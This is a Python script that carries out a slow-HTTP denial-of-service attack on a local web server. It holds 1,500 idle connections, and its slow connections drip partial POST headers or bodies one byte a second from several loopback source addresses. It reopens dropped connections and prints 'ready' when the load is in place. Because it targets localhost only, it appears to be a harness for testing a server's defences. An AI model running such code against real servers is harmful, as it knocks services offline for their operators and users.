"""Callers who hold on to a web server: idle connections, and requests that come a byte a second. A process of its own.

Started with the port; it says "ready" once every connection was opened, and goes on until it is stopped.
"""

import heapq
import resource
import selectors
import socket
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass

IDLE, SLOW, SCATTERED = 1500, 200, 200
"""Idle and slow ones of one address, and slow ones that each have another."""
HEAD = b"POST /api/v2 HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Padding: " + b"x" * 600 + b"\r\n\r\n"
BODY = (
    b"POST /api/v2 HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    b"Content-Length: 100000\r\n\r\n" + b"x" * 1000
)
AGAIN_SECONDS = 5
"""After so long one who was put out is back."""


@dataclass
class Attacker:
    """One connection: from where, what it sends, how much of that goes at once, and from when on it may be opened."""

    address: str
    request: bytes = b""
    at_once: int = 0
    sent: int = 0
    sock: socket.socket | None = None
    opens_at: float = 0.0
    was_open: bool = False

    def open(self, port: int) -> None:
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(self.address, 0))
        self.sock.setblocking(False)
        self.sent, self.was_open = 0, True

    def drip(self) -> None:
        """Send a byte, the first time also what goes at once."""
        size = self.at_once + 1 if self.sent == 0 else 1
        if self.sock and self.request:
            self.sent += self.sock.send(self.request[self.sent : self.sent + size])

    def close(self) -> None:
        if self.sock:
            self.sock.close()
        self.sock, self.opens_at = None, time.monotonic() + AGAIN_SECONDS


def attackers() -> Iterator[Attacker]:
    """All of them."""
    for _ in range(IDLE):
        yield Attacker("127.0.0.1")
    for number in range(SLOW + SCATTERED):
        address = "127.0.0.1" if number < SLOW else f"127.0.1.{number - SLOW + 1}"
        yield Attacker(address, HEAD) if number % 2 else Attacker(address, BODY, len(BODY) - 1000)


def attack(port: int) -> None:
    """Open all, then send and reopen for ever."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    selector = selectors.DefaultSelector()
    everybody = list(attackers())
    due = [(time.monotonic() + number / len(everybody), number) for number in range(len(everybody))]
    is_said = False
    while True:
        for key, _ in selector.select(max(0.0, due[0][0] - time.monotonic())):
            selector.unregister(key.fileobj)
            key.data.close()
        while due[0][0] <= time.monotonic():
            at, number = heapq.heappop(due)
            _step(everybody[number], port, selector)
            heapq.heappush(due, (at + 1.0, number))
        if not is_said and all(one.was_open for one in everybody):
            is_said = True
            print("ready", flush=True)


def _step(one: Attacker, port: int, selector: selectors.BaseSelector) -> None:
    """Once a second: open it, or have it send a byte."""
    try:
        if one.sock is None and one.opens_at <= time.monotonic():
            one.open(port)
            selector.register(one.sock, selectors.EVENT_READ, one)
        one.drip()
    except OSError:
        if one.sock and one.sock in selector.get_map():
            selector.unregister(one.sock)
        one.close()


if __name__ == "__main__":
    attack(int(sys.argv[1]))
